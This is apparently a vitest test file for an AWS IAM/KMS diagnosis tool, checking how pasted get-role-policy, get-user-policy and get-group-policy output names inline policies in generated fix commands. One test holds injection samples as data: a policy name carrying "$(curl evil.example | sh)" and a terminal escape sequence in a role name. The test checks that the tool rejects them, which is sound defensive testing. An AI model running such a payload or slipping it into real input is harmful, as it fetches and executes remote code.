import {describe, expect, it} from 'vitest';
import {diagnose} from '../../../source/diagnosis/diagnose.js';
import type {Fix} from '../../../source/diagnosis/diagnosis.js';
import {renderMarkdown} from '../../../source/report/render-markdown.js';
import {renderText} from '../../../source/report/render-text.js';
import type {Snapshot} from '../../../source/snapshot/snapshot.js';
import type {Step, Walk} from '../../../source/ui/conversation/flow-types.js';
import {walk, type Answers} from '../../../source/ui/conversation/walk.js';
import {flowEnv} from '../helpers/flow-env.js';
import {manualUpload} from '../helpers/manual-upload.js';

/**
 * The caller's identity policy pasted as aws iam get-role-policy (get-user-policy, get-group-policy) prints it: the
 * output names the inline policy, so a Deny in it is narrowed in place with put-role-policy, as a collected one is.
 * A bare document, or output naming someone else, stays an unnamed pasted policy with today's finding.
 */

const account = '111122223333';
const roleArn = `arn:aws:iam::${account}:role/Uploader`;
const session = `arn:aws:sts::${account}:assumed-role/Uploader/nightly`;
const userArn = `arn:aws:iam::${account}:user/alice`;

const uploadsPolicy = {
	Version: '2012-10-17',
	Statement: [
		{Sid: 'Uploads', Effect: 'Allow', Action: ['s3:PutObject', 'kms:GenerateDataKey', 'kms:Decrypt'], Resource: '*'},
		{Sid: 'NoDecrypt', Effect: 'Deny', Action: 'kms:Decrypt', Resource: '*'},
	],
};

/** A 200 MB upload by the AWS CLI goes in parts, so it needs kms:Decrypt, which the pasted policy denies. */
const upload = (principal: string, identity: string): Answers => ({
	...manualUpload,
	principal,
	'key-policy': JSON.stringify({Version: '2012-10-17', Statement: [{Effect: 'Allow', Principal: {AWS: `arn:aws:iam::${account}:root`}, Action: 'kms:*', Resource: '*'}]}),
	'identity-policy-1': identity,
});

const getRolePolicy = (roleName: string, policyName = 'uploads'): string => JSON.stringify({RoleName: roleName, PolicyName: policyName, PolicyDocument: uploadsPolicy}, null, 4);
const getUserPolicy = (userName: string): string => JSON.stringify({UserName: userName, PolicyName: 'uploads', PolicyDocument: uploadsPolicy}, null, 4);
const getGroupPolicy = (groupName: string): string => JSON.stringify({GroupName: groupName, PolicyName: 'Guardrail', PolicyDocument: uploadsPolicy}, null, 4);

const finished = (answers: Answers): {walked: Walk; snapshot: Snapshot} => {
	const walked = walk(answers, flowEnv());
	if (walked.next.kind !== 'done') throw new Error(`not done: ${JSON.stringify(walked.next.kind === 'ask' ? walked.next.question.id : walked.next)}`);
	return {walked, snapshot: walked.next.ending.snapshot};
};

const noteTexts = (steps: readonly Step[]): string[] => steps.flatMap(step => (step.kind === 'notes' ? step.notes.map(note => `${note.tone}: ${note.text}`) : []));

const narrowDenies = (fixes: readonly Fix[]): Fix[] => fixes.filter(fix => fix.kind === 'narrow-deny');

describe('an identity policy pasted as aws iam get-role-policy output', () => {
	it("names the caller's inline policy: the Deny gets a narrow-deny fix with put-role-policy, the report says where the name came from; a bare document does not", () => {
		const {walked, snapshot} = finished(upload(session, getRolePolicy('Uploader')));
		expect(noteTexts(walked.steps)).toContain('found: Identity policy 1: inline policy uploads of role Uploader, from the pasted aws iam get-role-policy output');
		expect(snapshot.principal?.identityPolicies?.map(policy => policy.name)).toEqual(['uploads']);
		const diagnosis = diagnose(snapshot);
		expect(diagnosis.verdict).toBe('denied');
		const [fix, ...others] = narrowDenies(diagnosis.fixes);
		expect(others).toEqual([]);
		// The session's ARN leaves the role's path out, and nothing pasted names the role's ARN: the exemption names the role
		// under any path, which cannot be proven (aws:PrincipalArn is not known).
		expect(fix).toMatchObject({place: 'identity-policy', target: 'role Uploader', policyName: 'uploads', proven: false});
		expect(fix!.command).toMatch(/^aws iam put-role-policy --role-name 'Uploader' --policy-name 'uploads' --policy-document '/);
		expect(diagnosis.findings.some(finding => finding.id === 'no-policy-fix')).toBe(false);
		const given = diagnosis.findings.find(finding => finding.id === 'identity-policy-named-by-paste');
		expect(given?.message).toBe(
			'Identity policy "uploads" is named as the pasted aws iam get-role-policy output names it: inline policy uploads of role Uploader (given, not read from IAM). A fix that rewrites it writes that policy.',
		);
		expect(renderMarkdown(diagnosis)).toContain('named as the pasted aws iam get-role-policy output names it');
		expect(renderText(diagnosis, {color: false})).toContain("aws iam put-role-policy --role-name 'Uploader' --policy-name 'uploads'");

		// The same policy pasted as a bare document names nothing: today's finding, and no fix names it.
		const bare = finished(upload(session, JSON.stringify(uploadsPolicy)));
		expect(noteTexts(bare.walked.steps).filter(text => text.includes('Identity policy 1'))).toEqual([]);
		expect(bare.snapshot.principal?.identityPolicies?.map(policy => policy.name)).toEqual(['pasted identity policy 1']);
		const unnamed = diagnose(bare.snapshot);
		expect(narrowDenies(unnamed.fixes)).toEqual([]);
		expect(unnamed.findings.find(finding => finding.id === 'no-policy-fix')?.message).toContain('the Deny is in the identity policy "pasted identity policy 1", and the snapshot does not say which IAM policy that is');
		expect(unnamed.findings.find(finding => finding.id === 'no-policy-fix')?.message).toContain('or paste it again as all that aws iam get-role-policy (get-user-policy) prints, which names it.');
		expect(unnamed.findings.some(finding => finding.id === 'identity-policy-named-by-paste')).toBe(false);
	});

	it("the role's name spelled in another case still names the caller's role, and the command keeps the caller's spelling", () => {
		const {snapshot} = finished(upload(roleArn, getRolePolicy('uploader')));
		const [fix] = narrowDenies(diagnose(snapshot).fixes);
		expect(fix!.command).toMatch(/^aws iam put-role-policy --role-name 'Uploader' --policy-name 'uploads' /);
	});
});

describe('output naming someone other than the caller', () => {
	it('get-user-policy output for another user: one clear line, kept unnamed, and no fix names the other user', () => {
		const {walked, snapshot} = finished(upload(userArn, getUserPolicy('bob')));
		expect(noteTexts(walked.steps)).toContain(
			'warning: Identity policy 1: the pasted aws iam get-user-policy output names user bob, but the caller is user alice; kept as an unnamed pasted policy, which no fix can name',
		);
		expect(snapshot.principal?.identityPolicies?.map(policy => policy.name)).toEqual(['pasted identity policy 1']);
		const diagnosis = diagnose(snapshot);
		expect(diagnosis.fixes.some(fix => fix.command.includes('bob'))).toBe(false);
		expect(narrowDenies(diagnosis.fixes)).toEqual([]);
		expect(diagnosis.findings.find(finding => finding.id === 'no-policy-fix')?.message).toContain('"pasted identity policy 1"');
	});

	it("get-role-policy output for another role, or a role's for a user, is said and kept unnamed", () => {
		const other = finished(upload(session, getRolePolicy('Reporter')));
		expect(noteTexts(other.walked.steps)).toContain(
			'warning: Identity policy 1: the pasted aws iam get-role-policy output names role Reporter, but the caller is role Uploader; kept as an unnamed pasted policy, which no fix can name',
		);
		const forUser = finished(upload(userArn, getRolePolicy('alice')));
		expect(forUser.snapshot.principal?.identityPolicies?.[0]?.name).toBe('pasted identity policy 1');
	});
});

describe('get-group-policy output', () => {
	it("for a user caller: taken as that group's inline policy, its membership said to be as given; the Deny is narrowed with put-group-policy", () => {
		const {walked, snapshot} = finished(upload(userArn, getGroupPolicy('Admins')));
		expect(noteTexts(walked.steps)).toContain(
			'found: Identity policy 1: inline policy Guardrail of group Admins, from the pasted aws iam get-group-policy output; that user alice is in group Admins is as given (a paste cannot show it)',
		);
		expect(snapshot.principal?.identityPolicies?.[0]?.name).toBe('group Admins: Guardrail');
		const diagnosis = diagnose(snapshot);
		const [fix] = narrowDenies(diagnosis.fixes);
		expect(fix).toMatchObject({target: 'group Admins', policyName: 'Guardrail', proven: true});
		expect(fix!.command).toMatch(/^aws iam put-group-policy --group-name 'Admins' --policy-name 'Guardrail' /);
		expect(diagnosis.findings.find(finding => finding.id === 'identity-policy-named-by-paste')?.message).toContain('That user alice is in group Admins is as given: a paste cannot show it.');
	});

	it('for a role caller: a role belongs to no group, said and kept unnamed', () => {
		const {walked, snapshot} = finished(upload(session, getGroupPolicy('Admins')));
		expect(noteTexts(walked.steps).join('\n')).toContain('but the caller is role Uploader, and a role belongs to no group; kept as an unnamed pasted policy');
		expect(narrowDenies(diagnose(snapshot).fixes)).toEqual([]);
	});
});

describe('names IAM would refuse (customer text on its way into a command)', () => {
	for (const [what, roleName, policyName, field] of [
		['an ESC character in the role name', 'Uploader\u001b[2J', 'uploads', 'RoleName'],
		['shell syntax in the policy name', 'Uploader', "$(curl evil.example | sh)'", 'PolicyName'],
	] as const) {
		it(`${what}: no name is kept, one line says why without repeating it, and no command carries it`, () => {
			const {walked, snapshot} = finished(upload(session, getRolePolicy(roleName, policyName)));
			const notes = noteTexts(walked.steps);
			expect(notes).toContain(
				`warning: Identity policy 1: the ${field} that aws iam get-role-policy prints is not ${field === 'RoleName' ? 'an IAM role name' : 'an IAM policy name'} (IAM names have letters, digits and + = , . @ _ - only); kept as an unnamed pasted policy`,
			);
			expect(notes.join('\n')).not.toContain('\u001b');
			expect(notes.join('\n')).not.toContain('$(');
			expect(snapshot.principal?.identityPolicies?.[0]?.name).toBe('pasted identity policy 1');
			const diagnosis = diagnose(snapshot);
			expect(narrowDenies(diagnosis.fixes)).toEqual([]);
			const report = `${renderMarkdown(diagnosis)}\n${renderText(diagnosis, {color: false})}`;
			expect(report).not.toContain('\u001b');
			expect(report).not.toContain('$(curl');
		});
	}
});

describe('one inline policy pasted twice', () => {
	it('is named once: IAM holds one policy of that name, so the second paste stays unnamed, and says so', () => {
		const answers: Answers = {...upload(session, getRolePolicy('Uploader')), 'identity-more-1': 'yes', 'identity-policy-2': getRolePolicy('Uploader'), 'identity-more-2': 'no'};
		const {walked, snapshot} = finished(answers);
		expect(snapshot.principal?.identityPolicies?.map(policy => policy.name)).toEqual(['uploads', 'pasted identity policy 2']);
		expect(noteTexts(walked.steps)).toContain('warning: Identity policy 2 is inline policy uploads of role Uploader again (identity policy 1): IAM holds one, so this one is kept unnamed');
	});
});
